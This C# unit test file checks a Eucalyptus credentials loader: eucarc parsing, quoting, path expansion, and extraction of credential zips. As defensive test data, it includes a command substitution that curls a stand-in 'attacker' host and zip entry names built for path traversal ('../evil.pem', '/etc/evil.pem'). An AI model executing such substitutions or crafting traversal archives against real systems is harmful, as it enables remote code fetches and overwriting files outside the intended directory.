using System.IO;
using System.IO.Compression;
using System.Linq;
using Euca.Images.Engine.Configuration;
using Euca.Images.Engine.Errors;
using Euca.Images.Engine.Tests.Support;

namespace Euca.Images.Engine.Tests.Configuration
{
    public class EucarcTests
    {
        // The shape euca_conf --get-credentials writes (maint-4.1 X509Download.java), shortened.
        private const string RealEucarc = @"EUCA_KEY_DIR=$(cd $(dirname ${BASH_SOURCE:-$0}); pwd -P)
export EC2_URL=http://10.1.1.1:8773/services/compute
export S3_URL=http://10.1.1.1:8773/services/objectstorage
export EC2_PRIVATE_KEY=${EUCA_KEY_DIR}/euca2-admin-5e8e9ec8-pk.pem
export EC2_CERT=${EUCA_KEY_DIR}/euca2-admin-5e8e9ec8-cert.pem
export EC2_JVM_ARGS=-Djavax.net.ssl.trustStore=${EUCA_KEY_DIR}/jssecacerts
export EUCALYPTUS_CERT=${EUCA_KEY_DIR}/cloud-cert.pem
export EC2_ACCOUNT_NUMBER='123456789012'
export EC2_ACCESS_KEY='AKIEUCARC'
export EC2_SECRET_KEY='eucarc/secret+key'
export AWS_ACCESS_KEY='AKIEUCARC'
export AWS_SECRET_KEY='eucarc/secret+key'
export AWS_CREDENTIAL_FILE=${EUCA_KEY_DIR}/iamrc
export EC2_USER_ID='123456789012'
alias ec2-bundle-image=""ec2-bundle-image --cert ${EC2_CERT} --privatekey ${EC2_PRIVATE_KEY} --user ${EC2_ACCOUNT_NUMBER} --ec2cert ${EUCALYPTUS_CERT}""
";

        [Fact]
        public void RealEucarcResolvesKeyDirToItsOwnDirectoryWithoutRunningAnything()
        {
            using var machine = new TestMachine();
            var eucarc = machine.Write("creds/eucarc", RealEucarc);
            var directory = Path.GetDirectoryName(eucarc)!;

            var settings = machine.Resolve(new CloudSettingsRequest { EucarcPath = eucarc });

            Assert.Equal("http://10.1.1.1:8773/services/compute", settings.ComputeUrl!.ToString());
            Assert.Equal("http://10.1.1.1:8773/services/objectstorage", settings.ObjectStorageUrl!.ToString());
            Assert.Equal("AKIEUCARC", settings.AccessKey);
            Assert.Equal("eucarc/secret+key", settings.SecretKey);
            Assert.Equal("123456789012", settings.AccountId);
            Assert.Equal(Path.Combine(directory, "euca2-admin-5e8e9ec8-pk.pem"), settings.PrivateKeyPath);
            Assert.Equal(Path.Combine(directory, "euca2-admin-5e8e9ec8-cert.pem"), settings.CertificatePath);
            Assert.Equal(Path.Combine(directory, "cloud-cert.pem"), settings.CloudCertificatePath);
            Assert.Equal($"eucarc ({eucarc})", settings.Sources[CloudSettingNames.ComputeUrl]);
        }

        [Fact]
        public void QuotesCommentsExpansionAndRelativePaths()
        {
            using var machine = new TestMachine();
            machine.Variables["CERTS"] = "/opt/certs";
            var eucarc = machine.Write("rc/eucarc", @"# a comment line
   # indented comment
EC2_URL=""http://cloud.example:8773/services/compute""   # trailing comment
export EC2_CERT=""$CERTS/user cert.pem""
export EC2_PRIVATE_KEY=keys/pk.pem
export EUCALYPTUS_CERT='${EUCA_KEY_DIR}/literal'
export EC2_USER_ID=1234-5678-9012
export COMPUTED=$(curl http://attacker)
if [ -n ""$X"" ]; then
fi
");
            var dir = Path.GetDirectoryName(eucarc)!;

            var settings = machine.Resolve(new CloudSettingsRequest { EucarcPath = eucarc });

            Assert.Equal("http://cloud.example:8773/services/compute", settings.ComputeUrl!.ToString());
            Assert.Equal("/opt/certs/user cert.pem", settings.CertificatePath);
            Assert.Equal(Path.Combine(dir, "keys", "pk.pem"), settings.PrivateKeyPath);

            // Single quotes keep the text literal in the shell, but paths get $VAR expansion afterwards (as in
            // euca2ools), with the eucarc's own variables visible.
            Assert.Equal(Path.Combine(dir, "literal"), settings.CloudCertificatePath);
            Assert.Null(settings.SessionToken);
            Assert.Equal("123456789012", settings.AccountId);
        }

        [Fact]
        public void CredentialsZipExtractsOnlyPemFilesIntoAPrivateDirectory()
        {
            using var machine = new TestMachine();
            var zipPath = Path.Combine(machine.Work, "admin.zip");
            using (var zip = ZipFile.Open(zipPath, ZipArchiveMode.Create))
            {
                Add(zip, "eucarc", RealEucarc);
                Add(zip, "iamrc", "AWSAccessKeyId=AKIEUCARC\nAWSSecretKey=eucarc/secret+key\n");
                Add(zip, "cloud-cert.pem", "CLOUD");
                Add(zip, "jssecacerts", "binary");
                Add(zip, "euca2-admin-5e8e9ec8-pk.pem", "KEY");
                Add(zip, "euca2-admin-5e8e9ec8-cert.pem", "CERT");
            }

            var settings = machine.Resolve(new CloudSettingsRequest { EucarcPath = zipPath });

            var dir = settings.TemporaryDirectory!;
            Assert.StartsWith(machine.Temp, dir);
            Assert.Equal(
                new[] { "cloud-cert.pem", "euca2-admin-5e8e9ec8-cert.pem", "euca2-admin-5e8e9ec8-pk.pem" },
                Directory.GetFiles(dir).Select(Path.GetFileName).OrderBy(n => n, System.StringComparer.Ordinal));
            Assert.Equal("KEY", File.ReadAllText(settings.PrivateKeyPath!));
            Assert.Equal(Path.Combine(dir, "cloud-cert.pem"), settings.CloudCertificatePath);
            Assert.Equal($"credentials zip ({zipPath})", settings.Sources[CloudSettingNames.AccessKey]);
            if (!System.OperatingSystem.IsWindows())
            {
                Assert.Equal(UnixFileMode.UserRead | UnixFileMode.UserWrite | UnixFileMode.UserExecute, File.GetUnixFileMode(dir));
            }
        }

        [Theory]
        [InlineData("../evil.pem")]
        [InlineData("sub/../../evil.pem")]
        [InlineData("/etc/evil.pem")]
        public void CredentialsZipWithAnEscapingEntryIsRefused(string hostileName)
        {
            using var machine = new TestMachine();
            var zipPath = Path.Combine(machine.Work, "hostile.zip");
            using (var zip = ZipFile.Open(zipPath, ZipArchiveMode.Create))
            {
                Add(zip, "eucarc", RealEucarc);
                Add(zip, hostileName, "owned");
            }

            var error = Assert.Throws<EucaException>(() => machine.Resolve(new CloudSettingsRequest { EucarcPath = zipPath }));

            Assert.Equal("CredentialsArchiveUnsafe", error.ErrorId);
            Assert.Contains(hostileName, error.Message);
            Assert.False(File.Exists(Path.Combine(machine.Root, "evil.pem")));
            Assert.Empty(Directory.GetDirectories(machine.Temp));
        }

        private static void Add(ZipArchive zip, string name, string content)
        {
            using var writer = new StreamWriter(zip.CreateEntry(name).Open());
            writer.Write(content);
        }
    }
}
